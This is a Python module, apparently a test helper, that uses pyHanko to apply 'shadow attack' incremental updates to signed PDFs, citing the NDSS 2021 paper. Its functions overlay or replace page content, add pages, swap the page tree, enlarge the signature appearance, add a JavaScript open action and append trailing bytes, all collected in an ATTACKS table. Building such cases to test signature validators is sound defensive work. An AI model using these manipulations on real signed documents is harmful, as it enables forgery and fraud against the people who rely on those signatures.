"""What is done to signed PDFs by incremental updates, which leave every signed byte in place (shadow attacks: Mainka,
Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021).
"""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

BOX = [40, 40, 300, 90]
WORDS = b"BT /F1 18 Tf 50 60 Td (Pay 9 000 000) Tj ET"


def with_field(pdf: bytes) -> bytes:
    """The document with a text field that is empty, as a form has it before it is signed."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    field = writer.add_object(
        _dictionary(Type="/Annot", Subtype="/Widget", FT="/Tx", T=generic.pdf_string("amount"), Rect=_numbers(BOX), F=4)
    )
    _annotated(writer, field)
    form = _dictionary(Fields=generic.ArrayObject([field]))
    writer.root["/AcroForm"] = writer.add_object(form)
    writer.update_root()
    return _written(writer)


def annotation(pdf: bytes) -> bytes:
    """A note with an appearance lies over the page."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    look = writer.add_object(_appearance())
    note = _dictionary(
        Type="/Annot", Subtype="/FreeText", Rect=_numbers(BOX), F=4, Contents=generic.pdf_string("Pay 9 000 000")
    )
    note["/AP"] = generic.DictionaryObject({pdf_name("/N"): look})
    _annotated(writer, writer.add_object(note))
    return _written(writer)


def field_value(pdf: bytes) -> bytes:
    """A field that was there is filled in."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    field = next(one.get_object() for one in writer.root["/AcroForm"]["/Fields"] if one.get_object()["/FT"] == "/Tx")
    field["/V"] = generic.pdf_string("9 000 000")
    writer.update_container(field)
    return _written(writer)


def overlay(pdf: bytes) -> bytes:
    """A further content stream paints over the page."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    page = _page(writer)
    more = writer.add_object(generic.StreamObject(stream_data=b"1 1 1 rg 0 0 600 900 re f " + WORDS))
    before = page.raw_get("/Contents")
    page["/Contents"] = generic.ArrayObject([before, more])
    writer.update_container(page)
    return _written(writer)


def replaced(pdf: bytes) -> bytes:
    """The page's own content is replaced by another object of the same number."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    page = _page(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=WORDS))
    writer.update_container(page)
    return _written(writer)


def page_added(pdf: bytes) -> bytes:
    """A page follows."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    pages = writer.root["/Pages"]
    page = _dictionary(Type="/Page", MediaBox=_numbers([0, 0, 595, 842]), Parent=writer.root.raw_get("/Pages"))
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=WORDS))
    pages["/Kids"].append(writer.add_object(page))
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)
    return _written(writer)


def other_pages(pdf: bytes) -> bytes:
    """The catalogue leads to another tree of pages, which may have lain hidden in the signed part."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    page = _dictionary(Type="/Page", MediaBox=_numbers([0, 0, 595, 842]))
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=WORDS))
    tree = _dictionary(Type="/Pages", Count=1, Kids=generic.ArrayObject([writer.add_object(page)]))
    writer.root["/Pages"] = writer.add_object(tree)
    writer.update_root()
    return _written(writer)


def signature_grown(pdf: bytes) -> bytes:
    """The signature's own field becomes as large as the page and shows other words."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    field = next(one.get_object() for one in writer.root["/AcroForm"]["/Fields"] if one.get_object()["/FT"] == "/Sig")
    field["/Rect"] = _numbers([0, 0, 600, 900])
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(_appearance())})
    writer.update_container(field)
    return _written(writer)


def script(pdf: bytes) -> bytes:
    """Opening the document runs something."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    writer.root["/OpenAction"] = _dictionary(S="/JavaScript", JS=generic.pdf_string("app.alert(1)"))
    writer.update_root()
    return _written(writer)


def tail(pdf: bytes) -> bytes:
    """Something follows that belongs to no revision."""
    return pdf + b"\n% more"


ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    one.__name__: one for one in (annotation, overlay, replaced, page_added, other_pages, signature_grown, script, tail)
}
"""Those that any signed PDF can suffer; `field_value` needs `with_field` before it is signed."""


def _page(writer: IncrementalPdfFileWriter) -> Any:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _annotated(writer: IncrementalPdfFileWriter, note: Any) -> None:
    page = _page(writer)
    page["/Annots"] = generic.ArrayObject([*page.get("/Annots", ()), note])
    writer.update_container(page)


def _appearance() -> generic.StreamObject:
    shape = _dictionary(Type="/XObject", Subtype="/Form", BBox=_numbers([0, 0, 260, 50]))
    return generic.StreamObject(dict_data=shape, stream_data=b"1 1 1 rg 0 0 260 50 re f " + WORDS)


def _dictionary(**entries: Any) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name(f"/{name}"): _value(one) for name, one in entries.items()})


def _value(one: Any) -> Any:
    if isinstance(one, str) and one.startswith("/"):
        return pdf_name(one)
    return generic.NumberObject(one) if isinstance(one, int) else one


def _numbers(values: list[int]) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(one) for one in values])


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()
